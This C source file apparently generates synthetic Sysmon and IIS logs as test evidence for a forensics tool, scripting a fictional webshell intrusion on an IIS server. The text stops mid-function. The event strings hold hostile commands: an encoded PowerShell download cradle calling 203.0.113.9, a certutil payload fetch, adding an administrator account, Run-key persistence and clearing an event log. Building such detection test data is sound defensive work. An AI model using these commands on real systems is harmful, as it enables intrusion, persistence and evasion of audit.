/* SPDX-FileCopyrightText: The shelltree authors */
/* SPDX-License-Identifier: Apache-2.0 */
/*
 * story.c - writes the project's own test evidence: `story OUTDIR DAMAGED EVENTS`.
 *
 * What happens is told here, process by process; where it is told of is a host
 * with a clock, so the same bytes come out on every run. testdata/README.md says
 * what is in the files and why. Sound evidence and damaged are two folders, because
 * a run over the second ends with another status; EVENTS has each of Sysmon's other events. Names
 * of companies, hosts and people are made up; addresses are those reserved for documentation.
 */
#include "evtxgen.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#define SYSMON "Microsoft-Windows-Sysmon"
#define SYSMON_GUID "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
#define SYSMON_CHANNEL "Microsoft-Windows-Sysmon/Operational"
#define SYSTEM_USER "NT AUTHORITY\\SYSTEM"
#define POOL "IIS APPPOOL\\DefaultAppPool"
#define LOCAL_SERVICE "NT AUTHORITY\\LOCAL SERVICE"
#define SYS32 "C:\\Windows\\System32\\"
#define POWERSHELL SYS32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define DOTNET "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"

enum { TEXT = 40, NOISE = 6, DAMAGE_AT = 4096 + 65536 + 8192, DAMAGE_SIZE = 600 };

/* hosts */

typedef struct proc {
    char guid[TEXT];
    uint32_t pid;
    const char *image, *command, *user, *level;
} proc;

typedef struct host {
    const char *computer;
    unsigned machine; /* first group of the GUIDs Sysmon makes there */
    unsigned fields;  /* how many a creation has: 16, 20, 21, 22 or 23 */
    bool forwarded;   /* literal records, rendered */
    gen_log *log;
    st_ticks now;
    uint64_t record;
    uint64_t token;
    uint32_t pid;
    proc system[NOISE]; /* what the background hangs under; pid 0: not yet known */
    st_buf *access;     /* the web server's log; NULL: it keeps none */
    bool tomcat;        /* in Tomcat's form, not in that of IIS */
} host;

/* Whether a step failed; main says so. */
typedef struct story {
    const char *out;
    const char *damaged;
    const char *events;
    st_ticks cleared; /* when a log of web01 was */
    bool failed;
} story;

static void wait_ms(host *h, unsigned ms)
{
    h->now += ms * ST_TICKS_MS;
}

static void make_guid(host *h, char out[TEXT])
{
    unsigned unix_time = (unsigned)((h->now - ST_TICKS_UNIX) / ST_TICKS_SECOND);
    h->token += 0x1d3b;
    snprintf(out, TEXT, "{%08X-%04X-%04X-0000-%012llX}", h->machine, unix_time & 0xffff,
             unix_time >> 16, 0x001000000000ULL + (h->token << 8));
}

/* A process that ran before the log begins: nothing is written. */
static proc unseen(host *h, const char *image, const char *command, const char *user)
{
    proc p = { .pid = h->pid, .image = image, .command = command, .user = user, .level = "System" };
    h->pid += 68;
    make_guid(h, p.guid);
    return p;
}

/* what Sysmon adds about an image */

typedef struct image_info {
    const char *file, *original, *description;
} image_info;

static const image_info known_images[] = {
    { "cmd.exe", "Cmd.Exe", "Windows Command Processor" },
    { "powershell.exe", "PowerShell.EXE", "Windows PowerShell" },
    { "whoami.exe", "whoami.exe", "whoami - displays logged on user information" },
    { "net.exe", "net.exe", "Net Command" },
    { "net1.exe", "net1.exe", "Net Command" },
    { "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility" },
    { "systeminfo.exe", "sysinfo.exe", "Displays system information" },
    { "tasklist.exe", "tasklist.exe", "Lists the current running tasks" },
    { "nltest.exe", "nltestrk.exe", "Microsoft Logon Server Test Utility" },
    { "certutil.exe", "CertUtil.exe", "CertUtil.exe" },
    { "conhost.exe", "CONHOST.EXE", "Console Window Host" },
    { "csc.exe", "csc.exe", "Visual C# Command Line Compiler" },
    { "cvtres.exe", "CVTRES.EXE", "Resource File To COFF Object Conversion Utility" },
    { "WerFault.exe", "WerFault.exe", "Windows Problem Reporting" },
    { "svchost.exe", "svchost.exe", "Host Process for Windows Services" },
    { "w3wp.exe", "w3wp.exe", "IIS Worker Process" },
    { "php-cgi.exe", "php-cgi.exe", "CGI / FastCGI" },
    { "explorer.exe", "EXPLORER.EXE", "Windows Explorer" },
    { "mmc.exe", "mmc.exe", "Microsoft Management Console" },
    { "notepad.exe", "NOTEPAD.EXE", "Notepad" },
    { "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks" },
    { "WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host" },
    { "dllhost.exe", "dllhost.exe", "COM Surrogate" },
    { "MpCmdRun.exe", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility" },
    { "ping.exe", "ping.exe", "TCP/IP Ping Command" },
    { "java.exe", "java.exe", "OpenJDK Platform binary" },
    { "httpd.exe", "httpd.exe", "Apache HTTP Server" },
    { "reg.exe", "reg.exe", "Registry Console Tool" },
    { "wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility" },
    { "WMIC.exe", "wmic.exe", "WMI Commandline Utility" },
};

static image_info info_of(const char *image)
{
    st_str file = st_str_basename(st_str_of(image));
    for (size_t i = 0; i < sizeof known_images / sizeof known_images[0]; i++) {
        if (st_str_ieq(file, st_str_of(known_images[i].file)))
            return known_images[i];
    }
    return (image_info){ NULL, NULL, NULL };
}

/* Hashes of the name: the same image has the same ones everywhere. */
static void hashes_of(const char *image, st_buf *out)
{
    unsigned char sum[32];
    st_str file = st_str_basename(st_str_of(image));
    st_sha256(file.p, file.n, sum);
    st_buf_fmt(out, "MD5=");
    st_buf_hex(out, sum, 16, true);
    st_buf_fmt(out, ",SHA256=");
    st_buf_hex(out, sum, 32, true);
    st_buf_fmt(out, ",IMPHASH=");
    st_buf_hex(out, sum + 16, 16, true);
    st_buf_char(out, 0);
}

/* Sysmon writes every percent sign of a command line twice. */
static void doubled(const char *command, st_buf *out)
{
    for (; *command != 0; command++) {
        st_buf_char(out, *command);
        if (*command == '%')
            st_buf_char(out, '%');
    }
    st_buf_char(out, 0);
}

/* events */

static void add(story *s, host *h, uint16_t id, uint8_t version, const gen_field *f, size_t n,
                const char *message)
{
    gen_event ev = { .provider = SYSMON,
                     .provider_guid = SYSMON_GUID,
                     .channel = SYSMON_CHANNEL,
                     .computer = h->computer,
                     .user_sid = "S-1-5-18",
                     .event_id = id,
                     .task = id,
                     .version = version,
                     .level = 4,
                     .keywords = UINT64_C(0x8000000000000000),
                     .created = h->now + 12345,
                     .event_record_id = ++h->record,
                     .pid = 2404,
                     .tid = 3520,
                     .fields = f,
                     .field_count = n,
                     .literal = h->forwarded,
                     .rendering = h->forwarded ? message : NULL };
    if (h->forwarded)
        ev.written = h->now + 4 * ST_TICKS_SECOND;
    if (!gen_add(h->log, &ev)) {
        fprintf(stderr, "story: %s: event %u doesn't go into the log\n", h->computer, id);
        s->failed = true;
    }
}

/* The fields of a creation that a schema has: those with `since` up to it. */
static size_t of_schema(const gen_field *all, const unsigned *since, size_t n, unsigned fields,
                        gen_field *out)
{
    size_t k = 0;
    for (size_t i = 0; i < n; i++) {
        if (since[i] <= fields)
            out[k++] = all[i];
    }
    return k;
}

/* A creation, with times and names of its own. */
static proc start(story *s, host *h, const proc *parent, const char *image, const char *command,
                  const char *user, const char *level)
{
    proc p = { .pid = h->pid, .image = image, .command = command, .user = user, .level = level };
    char pid[16], parent_pid[16], logon[64];
    st_buf utc = { 0 }, hashes = { 0 }, line = { 0 };
    image_info info = info_of(image);
    if (st_str_starts(st_str_of(image), ST_STR("C:\\inetpub"))) /* what an intruder put there */
        info = (image_info){ NULL, NULL, NULL };
    bool system = strcmp(user, SYSTEM_USER) == 0;
    bool microsoft = info.file != NULL && st_str_starts(st_str_of(image), ST_STR("C:\\Windows"));
    h->pid = h->pid % 30000 + 44;
    make_guid(h, p.guid);
    snprintf(pid, sizeof pid, "%u", p.pid);
    snprintf(parent_pid, sizeof parent_pid, "%u", parent->pid);
    snprintf(logon, sizeof logon, "{%08X-0000-6000-0000-0020%s}", h->machine,
             system ? "E7030000" : "5A4B0700");
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    hashes_of(image, &hashes);
    doubled(command, &line);
    const gen_field all[] = {
        { "RuleName", "-", GEN_STRING, 0 },
        { "UtcTime", utc.p, GEN_STRING, 0 },
        { "ProcessGuid", p.guid, GEN_GUID, 0 },
        { "ProcessId", pid, GEN_U32, 0 },
        { "Image", image, GEN_STRING, 0 },
        { "FileVersion", microsoft ? "10.0.20348.1 (WinBuild.160101.0800)" : "-", GEN_STRING, 0 },
        { "Description", info.description != NULL ? info.description : "-", GEN_STRING, 0 },
        { "Product", microsoft ? "Microsoft® Windows® Operating System" : "-", GEN_STRING, 0 },
        { "Company", microsoft ? "Microsoft Corporation" : "-", GEN_STRING, 0 },
        { "OriginalFileName", info.original != NULL ? info.original : "-", GEN_STRING, 0 },
        { "CommandLine", line.p, GEN_STRING, 0 },
        { "CurrentDirectory", system ? SYS32 : "C:\\inetpub\\wwwroot\\", GEN_STRING, 0 },
        { "User", user, GEN_STRING, 0 },
        { "LogonGuid", logon, GEN_GUID, 0 },
        { "LogonId", system ? "0x3e7" : "0x74b5a", GEN_HEX64, 0 },
        { "TerminalSessionId", strcmp(level, "Medium") == 0 ? "2" : "0", GEN_U32, 0 },
        { "IntegrityLevel", level, GEN_STRING, 0 },
        { "Hashes", hashes.p, GEN_STRING, 0 },
        { "ParentProcessGuid", parent->guid, GEN_GUID, 0 },
        { "ParentProcessId", parent_pid, GEN_U32, 0 },
        { "ParentImage", parent->image, GEN_STRING, 0 },
        { "ParentCommandLine", parent->command, GEN_STRING, 0 },
        { "ParentUser", parent->user, GEN_STRING, 0 },
    };
    static const unsigned since[23] = { 21, 0, 0, 0, 0, 20, 20, 20, 20, 22, 0, 0,
                                        0,  0, 0, 0, 0, 0,  0,  0,  0,  0,  23 };
    gen_field fields[23];
    size_t n = of_schema(all, since, 23, h->fields, fields);
    add(s, h, 1, 5, fields, n, "Process Create:");
    st_buf_free(&utc);
    st_buf_free(&hashes);
    st_buf_free(&line);
    return p;
}

/* As the parent. */
static proc child(story *s, host *h, const proc *parent, const char *image, const char *command)
{
    return start(s, h, parent, image, command, parent->user, parent->level);
}

static void end(story *s, host *h, const proc *p)
{
    char pid[16];
    st_buf utc = { 0 };
    snprintf(pid, sizeof pid, "%u", p->pid);
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    const gen_field all[] = {
        { "RuleName", "-", GEN_STRING, 0 },      { "UtcTime", utc.p, GEN_STRING, 0 },
        { "ProcessGuid", p->guid, GEN_GUID, 0 }, { "ProcessId", pid, GEN_U32, 0 },
        { "Image", p->image, GEN_STRING, 0 },    { "User", p->user, GEN_STRING, 0 },
    };
    static const unsigned since[6] = { 21, 0, 0, 0, 0, 23 };
    gen_field fields[6];
    add(s, h, 5, 3, fields, of_schema(all, since, 6, h->fields, fields), "Process terminated:");
    st_buf_free(&utc);
}

/* A child that is gone after some milliseconds. */
static void run(story *s, host *h, const proc *parent, const char *image, const char *command)
{
    proc p = child(s, h, parent, image, command);
    wait_ms(h, 140);
    end(s, h, &p);
    wait_ms(h, 30);
}

static void service_state(story *s, host *h)
{
    st_buf utc = { 0 };
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    const gen_field f[] = { { "UtcTime", utc.p, GEN_STRING, 0 },
                            { "State", "Started", GEN_STRING, 0 },
                            { "Version", "14.13", GEN_STRING, 0 },
                            { "SchemaVersion", "4.82", GEN_STRING, 0 } };
    add(s, h, 4, 3, f, 4, "Sysmon service state changed:");
    st_buf_free(&utc);
}

/* events of a process */

#define F(name, text)             \
    {                             \
        name, text, GEN_STRING, 0 \
    }

/* An event of a process: what all have, its own fields, and User where the schema has it there. */
static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p,
                const gen_field *own, size_t n)
{
    gen_field f[24];
    char pid[16];
    st_buf utc = { 0 };
    size_t k = 0;
    wait_ms(h, 1500);
    snprintf(pid, sizeof pid, "%u", p->pid);
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    f[k++] = (gen_field)F("RuleName", "-");
    f[k++] = (gen_field)F("UtcTime", utc.p);
    f[k++] = (gen_field){ "ProcessGuid", p->guid, GEN_GUID, 0 };
    f[k++] = (gen_field){ "ProcessId", pid, GEN_U32, 0 };
    f[k++] = (gen_field)F("Image", p->image);
    for (size_t i = 0; i < n; i++)
        f[k++] = own[i];
    f[k++] = (gen_field)F("User", p->user);
    add(s, h, id, version, f, k, "");
    st_buf_free(&utc);
}
#define ACT(id, version, p, ...)                                    \
    do {                                                            \
        const gen_field own[] = { __VA_ARGS__ };                    \
        act(s, h, id, version, p, own, sizeof own / sizeof own[0]); \
    } while (0)

/* One process does something to another. */
static void reach(story *s, host *h, uint16_t id, const proc *from, const proc *to)
{
    char from_pid[16], to_pid[16];
    st_buf utc = { 0 };
    wait_ms(h, 1500);
    snprintf(from_pid, sizeof from_pid, "%u", from->pid);
    snprintf(to_pid, sizeof to_pid, "%u", to->pid);
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    const bool opened = id == 10;
    const gen_field f[] = {
        F("RuleName", "technique_id=T1055,technique_name=Process Injection"),
        F("UtcTime", utc.p),
        { opened ? "SourceProcessGUID" : "SourceProcessGuid", from->guid, GEN_GUID, 0 },
        { "SourceProcessId", from_pid, GEN_U32, 0 },
        F("SourceImage", from->image),
        { opened ? "TargetProcessGUID" : "TargetProcessGuid", to->guid, GEN_GUID, 0 },
        { "TargetProcessId", to_pid, GEN_U32, 0 },
        F("TargetImage", to->image),
        { opened ? "SourceThreadId" : "NewThreadId", "4242", GEN_U32, 0 },
        opened ? (gen_field){ "GrantedAccess", "0x1fffff", GEN_HEX32, 0 }
               : (gen_field)F("StartAddress", "0x00007FF8C0DE0000"),
        opened ? (gen_field)F("CallTrace", SYS32 "ntdll.dll+9d204|UNKNOWN(000001C0DE000000)")
               : (gen_field)F("StartModule", "-"),
        F("SourceUser", from->user),
        F("TargetUser", to->user),
    };
    add(s, h, id, opened ? 3 : 2, f, sizeof f / sizeof f[0], "");
    st_buf_free(&utc);
}

static void connects(story *s, host *h, const proc *p, bool out, const char *source,
                     const char *source_port, const char *to, const char *name, const char *port)
{
    ACT(3, 5, p, F("Protocol", "tcp"), { "Initiated", out ? "true" : "false", GEN_BOOL, 0 },
        { "SourceIsIpv6", "false", GEN_BOOL, 0 }, F("SourceIp", source),
        F("SourceHostname", out ? h->computer : "-"), { "SourcePort", source_port, GEN_U16, 0 },
        F("SourcePortName", "-"), { "DestinationIsIpv6", "false", GEN_BOOL, 0 },
        F("DestinationIp", to), F("DestinationHostname", name),
        { "DestinationPort", port, GEN_U16, 0 }, F("DestinationPortName", "-"));
}

/* Out, from here, half a second on. */
static void connection(story *s, host *h, const proc *p, const char *to, const char *port)
{
    connects(s, h, p, true, "192.0.2.10", "49731", to, "-", port);
}

static void looks_up(story *s, host *h, const proc *p, const char *name, const char *answer)
{
    ACT(22, 5, p, F("QueryName", name), F("QueryStatus", "0"), F("QueryResults", answer));
}

static void writes(story *s, host *h, const proc *p, const char *path)
{
    st_buf utc = { 0 };
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
    ACT(11, 2, p, F("TargetFilename", path), F("CreationUtcTime", utc.p));
    st_buf_free(&utc);
}

static void deletes(story *s, host *h, const proc *p, const char *path)
{
    ACT(26, 5, p, F("TargetFilename", path),
        F("Hashes", "SHA256=6B86B273FF34FCE19D6B804EFF5A3F5747ADA4EAA22F1D49C01E52DDB7875B4B"),
        { "IsExecutable", "true", GEN_BOOL, 0 });
}

static void sets(story *s, host *h, const proc *p, const char *key, const char *value)
{
    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", key), F("Details", value));
}

/* what a web server notes of a request */

#define INTRUDER "198.51.100.23"
#define BROWSER "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"

static void request(host *h, const char *client, const char *method, const char *path,
                    unsigned status)
{
    static const char *const months[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
    st_buf t = { 0 };
    if (h->access == NULL)
        return;
    st_buf_time_sysmon(&t, h->now);
    st_buf_char(&t, 0); /* 2026-03-04 06:00:00.000 */
    if (h->tomcat)
        st_buf_fmt(h->access, "%s - - [%.2s/%s/%.4s:%.8s +0000] \"%s %s HTTP/1.1\" %u 512\n",
                   client, t.p + 8, months[((t.p[5] - '0') * 10 + t.p[6] - '0' - 1) % 12], t.p,
                   t.p + 11, method, path, status);
    else
        st_buf_fmt(h->access, "%.19s 192.0.2.10 %s %s - 443 - %s " BROWSER " - %u 0 0 15\r\n", t.p,
                   method, path, client, status);
    wait_ms(h, 120);
    st_buf_free(&t);
}

/* background: what any server does */

typedef struct daily {
    const char *parent, *parent_command, *image, *command, *user;
} daily;

static const daily noise[NOISE] = {
    { SYS32 "services.exe", SYS32 "services.exe", SYS32 "svchost.exe",
      SYS32 "svchost.exe -k netsvcs -p -s wlidsvc", SYSTEM_USER },
    { SYS32 "svchost.exe", SYS32 "svchost.exe -k netsvcs -p -s Schedule", SYS32 "taskhostw.exe",
      "taskhostw.exe Logon", SYSTEM_USER },
    { SYS32 "svchost.exe", SYS32 "svchost.exe -k DcomLaunch -p", SYS32 "wbem\\WmiPrvSE.exe",
      SYS32 "wbem\\wmiprvse.exe -secured -Embedding", SYSTEM_USER },
    { SYS32 "svchost.exe", SYS32 "svchost.exe -k DcomLaunch -p", SYS32 "dllhost.exe",
      SYS32 "DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", LOCAL_SERVICE },
    { SYS32 "svchost.exe", SYS32 "svchost.exe -k netsvcs -p -s Schedule",
      "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
      "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob",
      SYSTEM_USER },
    { SYS32 "svchost.exe", SYS32 "svchost.exe -k netsvcs -p -s Schedule", POWERSHELL,
      "powershell.exe -NoProfile -File \"C:\\Scripts\\disk%FREE%.ps1\"", SYSTEM_USER },
};

/* The first of the table with the same parent: a host has one of each service host. */
static unsigned same_parent(unsigned i)
{
    unsigned k = 0;
    while (strcmp(noise[k].parent_command, noise[i].parent_command) != 0)
        k++;
    return k;
}

/* One process each for the parents in the table above. */
static proc *noise_parent(host *h, unsigned i)
{
    proc *p = &h->system[same_parent(i)];
    if (p->pid == 0)
        *p = unseen(h, noise[i].parent, noise[i].parent_command, SYSTEM_USER);
    return p;
}

static proc services_of(host *h)
{
    return *noise_parent(h, 0);
}

static void background(story *s, host *h, unsigned rounds)
{
    for (unsigned i = 0; i < rounds; i++) {
        const daily *d = &noise[i % NOISE];
        proc *parent = noise_parent(h, i % NOISE);
        wait_ms(h, 20000);
        request(h, "192.0.2.77", "GET", i % 3 ? "/" : "/news.aspx", 200);
        wait_ms(h, 20000 + i * 317);
        proc p = start(s, h, parent, d->image, d->command, d->user, "System");
        wait_ms(h, 900);
        if (i % 2 == 0)
            end(s, h, &p);
    }
}

/* the files */

static bool make_dir(const char *path)
{
    return mkdir(path, 0777) == 0 || errno == EEXIST;
}

static void write_path(story *s, const char *path, st_str bytes)
{
    bool ok = true;
    FILE *f = fopen(path, "wb");
    if (f != NULL) {
        ok = fwrite(bytes.p, 1, bytes.n, f) == bytes.n;
        ok = fclose(f) == 0 && ok;
    }
    if (f == NULL || !ok) {
        fprintf(stderr, "story: %s: %s\n", path, strerror(errno));
        s->failed = true;
    }
}

static void write_file(story *s, const char *dir, const char *name, st_str bytes)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", s->out, dir);
    s->failed |= !make_dir(path);
    snprintf(path, sizeof path, "%s/%s/%s", s->out, dir, name);
    write_path(s, path, bytes);
}

static void finish(story *s, gen_log *log, const char *dir, const char *name)
{
    st_buf out = { 0 };
    if (gen_finish(log, &out))
        write_file(s, dir, name, st_buf_slice(&out));
    else
        s->failed = true;
    st_buf_free(&out);
}

static host new_host(story *s, const char *computer, unsigned machine, unsigned fields,
                     const char *since, const gen_options *options)
{
    host h = { .computer = computer, .machine = machine, .fields = fields, .pid = 1044 };
    h.log = gen_new(options);
    if (h.log == NULL || !st_time_iso(st_str_of(since), &h.now)) {
        fprintf(stderr, "story: %s can't be set up\n", computer);
        exit(1);
    }
    h.record = machine % 9000;
    (void)s;
    return h;
}

/* testdata/iis */

#define SHELL_PATH "/uploads/view.aspx"

static void compile_page(story *s, host *h, const proc *server)
{
    request(h, INTRUDER, "GET", SHELL_PATH, 200);
    proc csc = child(s, h, server, DOTNET "csc.exe",
                     "\"" DOTNET "csc.exe\" /noconfig /fullpaths "
                     "@\"C:\\Windows\\TEMP\\4lqv0zpd.cmdline\"");
    wait_ms(h, 60);
    run(s, h, &csc, SYS32 "conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    run(s, h, &csc, DOTNET "cvtres.exe",
        DOTNET "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES91D.tmp\"");
    end(s, h, &csc);
}

/* One command through the shell that the page starts. */
static void shell(story *s, host *h, const proc *server, const char *line, const char *image,
                  const char *command)
{
    request(h, INTRUDER, "POST", h->tomcat ? "/help/x.jsp" : SHELL_PATH, 200);
    proc cmd = child(s, h, server, SYS32 "cmd.exe", line);
    wait_ms(h, 20);
    run(s, h, &cmd, SYS32 "conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    run(s, h, &cmd, image, command);
    end(s, h, &cmd);
    wait_ms(h, 21000);
}

static void iis_recon(story *s, host *h, const proc *server)
{
    shell(s, h, server, "\"c:\\windows\\system32\\cmd.exe\" /c whoami /all", SYS32 "whoami.exe",
          "whoami  /all");
    request(h, INTRUDER, "POST", SHELL_PATH, 200);
    proc cmd =
        child(s, h, server, SYS32 "cmd.exe", "\"c:\\windows\\system32\\cmd.exe\" /c net user");
    wait_ms(h, 25);
    proc net = child(s, h, &cmd, SYS32 "net.exe", "net  user");
    wait_ms(h, 15);
    run(s, h, &net, SYS32 "net1.exe", "C:\\Windows\\system32\\net1  user");
    end(s, h, &net);
    end(s, h, &cmd);
    wait_ms(h, 30000);
    shell(s, h, server, "\"c:\\windows\\system32\\cmd.exe\" /c ipconfig /all", SYS32 "ipconfig.exe",
          "ipconfig  /all");
    shell(s, h, server, "\"c:\\windows\\system32\\cmd.exe\" /c dir c:\\inetpub\\wwwroot 2>&1",
          SYS32 "systeminfo.exe", "systeminfo");
}

static void iis_chopper(story *s, host *h, const proc *server)
{
    request(h, INTRUDER, "POST", SHELL_PATH, 200);
    proc cmd = child(s, h, server, SYS32 "cmd.exe",
                     "\"cmd\" /c cd /d \"C:\\inetpub\\wwwroot\\\"&tasklist&echo [S]&cd&echo [E]");
    wait_ms(h, 30);
    run(s, h, &cmd, SYS32 "tasklist.exe", "tasklist");
    end(s, h, &cmd);
    wait_ms(h, 15000);
}

/* IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') */
static const char download_line[] =
    "powershell -nop -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAG"
    "wA"
    "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA";

/* The account is SYSTEM's: a way back, and what would tell of it. */
static void iis_root(story *s, host *h, const proc *root)
{
    run(s, h, root, SYS32 "whoami.exe", "whoami");
    proc net = child(s, h, root, SYS32 "net.exe", "net localgroup administrators helpdesk /add");
    run(s, h, &net, SYS32 "net1.exe",
        "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
    end(s, h, &net);
    run(s, h, root, SYS32 "nltest.exe", "nltest /domain_trusts");
    run(s, h, root, SYS32 "inetsrv\\appcmd.exe",
        "appcmd  list apppool DefaultAppPool /text:processmodel.password");
    proc reg = child(s, h, root, SYS32 "reg.exe",
                     "reg  add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater "
                     "/d C:\\ProgramData\\u.exe");
    sets(s, h, &reg, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
         "C:\\ProgramData\\u.exe");
    end(s, h, &reg);
    s->cleared = h->now + 60 * ST_TICKS_MS;
    run(s, h, root, SYS32 "wevtutil.exe", "wevtutil  cl \"Windows PowerShell\"");
}

static void iis_download(story *s, host *h, const proc *server)
{
    proc lsass = unseen(h, SYS32 "lsass.exe", SYS32 "lsass.exe", SYSTEM_USER);
    request(h, INTRUDER, "POST", SHELL_PATH, 200);
    proc cmd = child(s, h, server, SYS32 "cmd.exe",
                     "\"c:\\windows\\system32\\cmd.exe\" /c start /b powershell");
    wait_ms(h, 30);
    proc ps = child(s, h, &cmd, POWERSHELL, download_line);
    looks_up(s, h, &ps, "cdn.intruder.example", "::ffff:203.0.113.9;");
    connection(s, h, &ps, "203.0.113.9", "80");
    end(s, h, &cmd);
    wait_ms(h, 6000);
    proc fetch =
        child(s, h, &ps, SYS32 "certutil.exe",
              "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
    connection(s, h, &fetch, "203.0.113.9", "80");
    writes(s, h, &fetch, "C:\\Windows\\Temp\\p.exe");
    end(s, h, &fetch);
    run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
    proc potato =
        child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
    wait_ms(h, 1200);
    proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
    wait_ms(h, 2500);
    reach(s, h, 10, &potato, &lsass);
    writes(s, h, &potato, "C:\\ProgramData\\u.exe");
    iis_root(s, h, &root);
    deletes(s, h, &potato, "C:\\Windows\\Temp\\p.exe");
    end(s, h, &root);
    end(s, h, &potato);
    wait_ms(h, 5000);
    request(h, INTRUDER, "POST", SHELL_PATH, 200);
    run(s, h, server, "C:\\inetpub\\temp\\csc.exe", "C:\\inetpub\\temp\\csc.exe -l 0 -p 8443");
}

static const char w3wp_line[] =
    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l "
    "\"webengine4.dll\" "
    "-a \\\\.\\pipe\\iisipm6f2 -h "
    "\"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\"";

static const char iis_head[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2026-03-04 06:00:00\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";

static void tell_iis(story *s)
{
    st_buf access = { 0 };
    gen_options dirty = { .dirty = true, .claimed_chunks = 1, .minor = 2, .spare_chunks = 1 };
    host h = new_host(s, "web01.corp.example", 0xA1B20001, 23, "2026-03-04T06:00:00Z", &dirty);
    proc server = unseen(&h, SYS32 "inetsrv\\w3wp.exe", w3wp_line, POOL);
    server.level = "High";
    h.access = &access;
    st_buf_str(&access, st_str_of(iis_head));
    service_state(s, &h);
    background(s, &h, 14);
    request(&h, INTRUDER, "POST", "/upload.aspx", 302);
    writes(s, &h, &server, "C:\\inetpub\\wwwroot\\uploads\\view.aspx");
    wait_ms(&h, 12000);
    compile_page(s, &h, &server);
    wait_ms(&h, 9000);
    iis_recon(s, &h, &server);
    background(s, &h, 6);
    iis_chopper(s, &h, &server);
    iis_download(s, &h, &server);
    background(s, &h, 14);
    run(s, &h, &server, SYS32 "WerFault.exe", SYS32 "WerFault.exe -u -p 1044 -s 1460");
    background(s, &h, 3);
    gen_close_chunk(h.log, 2); /* two of them stay behind as slack */
    finish(s, h.log, "iis", "Microsoft-Windows-Sysmon%4Operational.evtx");
    write_file(s, "iis", "u_ex260304.log", st_buf_slice(&access));
    st_buf_free(&access);
}

/* Not Sysmon: its events have number 1 too. */
static void tell_others(story *s)
{
    gen_log *log = gen_new(NULL);
    st_ticks t = 0;
    st_time_iso(ST_STR("2026-03-04T06:10:00Z"), &t);
    const gen_field time_change[] = { { "NewTime", "2026-03-04T06:10:00.5Z", GEN_FILETIME, 0 },
                                      { "OldTime", "2026-03-04T06:09:58Z", GEN_FILETIME, 0 },
                                      { "Reason", "2", GEN_U32, 0 } };
    const gen_field classic[] = { { NULL, "W32Time\nweb01", GEN_STRINGS, 0 },
                                  { NULL, "0a0B0c", GEN_BINARY, 0 } };
    const gen_field values[] = {
        { "I8", "-5", GEN_I8, 0 },
        { "U8", "200", GEN_U8, 0 },
        { "I16", "-300", GEN_I16, 0 },
        { "U16", "60000", GEN_U16, 0 },
        { "I32", "-70000", GEN_I32, 0 },
        { "U32", "4000000000", GEN_U32, 0 },
        { "I64", "-5000000000", GEN_I64, 0 },
        { "U64", "18446744073709551615", GEN_U64, 0 },
        { "Float", "1.5", GEN_FLOAT, 0 },
        { "Double", "-0.1", GEN_DOUBLE, 0 },
        { "Bool", "true", GEN_BOOL, 0 },
        { "Ansi", "plain", GEN_ANSI, 0 },
        { "Binary", "deadbeef", GEN_BINARY, 0 },
        { "Guid", "{01234567-89AB-CDEF-0123-456789ABCDEF}", GEN_GUID, 0 },
        { "Size", "0x1000", GEN_HEX64, GEN_SIZE },
        { "FileTime", "2026-03-04T06:10:00.1234567Z", GEN_FILETIME, 0 },
        { "SystemTime", "2026-03-04T06:10:00.123Z", GEN_SYSTEMTIME, 0 },
        { "Sid", "S-1-5-21-1-2-3-500", GEN_SID, 0 },
